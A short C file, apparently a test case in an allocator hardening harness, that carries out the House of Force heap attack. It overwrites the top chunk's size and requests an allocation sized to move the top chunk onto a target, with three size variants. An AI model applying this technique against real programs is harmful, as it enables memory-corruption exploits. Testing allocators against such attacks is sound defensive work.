/* house_of_force.c - top's size is overwritten with the largest number there is; a
 * request of the right size then moves top to wherever the attacker wants. */
#include "attack.h"

static void force(size_t word)
{
    char *a = take(BINNED);
    char *top = a + size_of(a); /* top's payload, if a is the last chunk */
    poke(top, -WORD, word);
    prey.words[1] = 1 << 20 | P;
    size_t distance = prey_at(0) - (size_t)top - 4 * WORD;
    void *far = see_malloc(distance);
    (void)far;
    go_on(BINNED, 20);
    go_on(SMALL, 20);
}

static void largest(void) { force(~(size_t)0); }
static void large(void) { force((size_t)1 << 46 | P); }
static void zero(void) { force(0); }

ATTACK(largest, large, zero)
